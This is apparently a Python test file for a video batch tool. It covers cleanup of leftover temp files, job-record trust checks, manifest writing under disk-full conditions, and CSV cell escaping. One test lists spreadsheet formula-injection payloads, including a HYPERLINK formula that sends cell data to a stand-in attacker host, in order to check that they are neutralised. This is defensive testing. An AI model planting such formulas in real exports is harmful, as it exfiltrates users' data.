"""Job records and leftovers: what a rerun may trust, and what a killed run left behind."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import time
from pathlib import Path

from tests.helpers.disk import PAGE, fill, small_disk
from vidkit.batch.jobs import (
    JobStore,
    ManifestRow,
    OutputRecord,
    read_manifest,
    write_manifest,
)
from vidkit.files import sweep_leftovers, write_csv


def _dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def test_sweep_removes_only_old_temporaries_of_dead_processes(tmp_path: Path) -> None:
    dead, old = _dead_pid(), time.time() - 3600
    stale = tmp_path / f".a-default-9x16.part-{dead}.mp4"
    stale_record = tmp_path / f".abc.json.{dead}.1234.tmp"
    fresh = tmp_path / f".b-default-9x16.part-{dead}.mp4"
    mine = tmp_path / f".c-default-9x16.part-{os.getpid()}.mp4"
    finished = tmp_path / "a-default-9x16.mp4"
    for p in (stale, stale_record, fresh, mine, finished):
        p.write_bytes(b"x")
    for p in (stale, stale_record, mine, finished):
        os.utime(p, (old, old))
    assert sorted(sweep_leftovers([tmp_path, tmp_path / "missing"])) == sorted(
        [stale, stale_record]
    )
    assert fresh.exists() and mine.exists() and finished.exists()


def test_a_record_is_trusted_only_while_its_file_is_unchanged(tmp_path: Path) -> None:
    video = tmp_path / "a-default-9x16.mp4"
    video.write_bytes(b"first render")
    store = JobStore(tmp_path)
    store.record("k1", OutputRecord(platform="9x16", path=str(video)), line=2, clip="a.mp4")
    assert store.finished("k1") == OutputRecord(platform="9x16", path=str(video))
    assert store.finished("k2") is None
    video.write_bytes(b"another row's render")  # same name, other content
    assert store.finished("k1") is None
    video.unlink()
    assert store.finished("k1") is None


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_manifest_csv_cells_cannot_be_formulas(tmp_path: Path) -> None:
    rows = [
        ManifestRow(line=2 + i, clip=f, template="t", platform="9x16", status="failed", error=f)
        for i, f in enumerate(FORMULAS)
    ]
    write_manifest(tmp_path, rows, {})
    table = read_csv(tmp_path / "manifest.csv")
    assert [r["clip"] for r in table] == ["'" + f for f in FORMULAS]
    assert [r["error"] for r in table] == ["'" + f for f in FORMULAS]
    assert [r["line"] for r in table] == [str(2 + i) for i in range(len(FORMULAS))]
    assert [r["clip"] for r in read_manifest(tmp_path)] == FORMULAS  # the JSON keeps them as given


def test_csv_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    buf = io.StringIO(newline="")
    write_csv(buf, ["n", "x", "text"], [[-3, -0.5, "Ann-Marie"], [7, 1.5, "-1"]])
    assert buf.getvalue() == "n,x,text\r\n-3,-0.5,Ann-Marie\r\n7,1.5,'-1\r\n"


def _rows(n: int) -> list[ManifestRow]:
    return [
        ManifestRow(line=i, clip=f"clips/{i}.mp4", template="t", platform="9x16", status="ok")
        for i in range(2, n + 2)
    ]


def test_a_full_disk_loses_only_the_manifest_file_that_did_not_fit(tmp_path: Path) -> None:
    rows = _rows(200)
    sizes = {}
    assert write_manifest(tmp_path / "measure", rows, {}) == ()
    for name in ("manifest.csv", "manifest.json"):
        sizes[name] = (tmp_path / "measure" / name).stat().st_size
    assert sizes["manifest.json"] > sizes["manifest.csv"] + 8 * PAGE
    with small_disk(tmp_path / "disk", 1 << 20) as disk:
        fill(disk, free=sizes["manifest.csv"] + 2 * PAGE)
        problems = write_manifest(disk, rows, {})
        assert len(problems) == 1 and "\n" not in problems[0]
        assert "manifest.json: not written: No space left on device" in problems[0]
        assert len(read_csv(disk / "manifest.csv")) == 200
        assert sorted(p.name for p in disk.iterdir()) == ["filler", "manifest.csv"]


def test_an_unwritable_csv_still_leaves_the_json(tmp_path: Path) -> None:
    (tmp_path / "manifest.csv").mkdir()  # something in the way, as a mistaken copy leaves
    problems = write_manifest(tmp_path, _rows(3), {})
    assert len(problems) == 1 and "manifest.csv: not written" in problems[0]
    assert [r["line"] for r in read_manifest(tmp_path)] == [2, 3, 4]


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))
